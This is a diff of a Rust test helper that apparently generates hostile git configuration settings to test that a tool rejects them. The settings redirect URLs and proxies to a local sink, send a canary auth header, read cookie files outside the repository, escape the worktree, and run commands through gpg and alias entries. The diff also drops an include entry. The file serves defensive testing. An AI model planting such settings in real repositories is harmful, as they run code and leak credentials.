@@ -5,7 +5,8 @@ use relplan_testkit::mutation::Dice;
 use super::command_line;
 use crate::place::{MARK, Place};
 
-/// Settings of a repository that run a program, reach another host or read a file.
+/// Settings of a repository that run a program, reach another host or read a file. Includes are not among them: git follows
+/// those of a true `.git`, where CI keeps its token, and no pull request puts them there.
 fn settings(place: &Place, dice: &mut Dice) -> String {
     let run = command_line(place, dice);
     let evil = format!("http://127.0.0.1:{}/", place.sink.port());
@@ -25,7 +26,6 @@ fn settings(place: &Place, dice: &mut Dice) -> String {
         format!("[url \"{evil}\"]\n\tinsteadOf = https://\n\tinsteadOf = http://127.0.0.1\n\tpushInsteadOf = http://\n"),
         "[http]\n\textraheader = \"Authorization: Basic Y2FuYXJ5\"\n\tcookieFile = ../outside/secret\n\tsaveCookies = true\n".to_owned(),
         format!("[http]\n\tproxy = {evil}\n\tsslVerify = false\n"),
-        "[include]\n\tpath = ../../outside/secret\n[includeIf \"gitdir:/\"]\n\tpath = /dev/zero\n".to_owned(),
         format!("[gpg]\n\tprogram = \"{quoted}\"\n[commit]\n\tgpgSign = true\n[gpg \"ssh\"]\n\tdefaultKeyCommand = \"{quoted}\"\n"),
         format!("[alias]\n\tstatus = \"!{quoted}\"\n\trev-parse = \"!{quoted}\"\n\tconfig = \"!{quoted}\"\n"),
         "[core]\n\tworktree = ../../outside/folder\n".to_owned(),
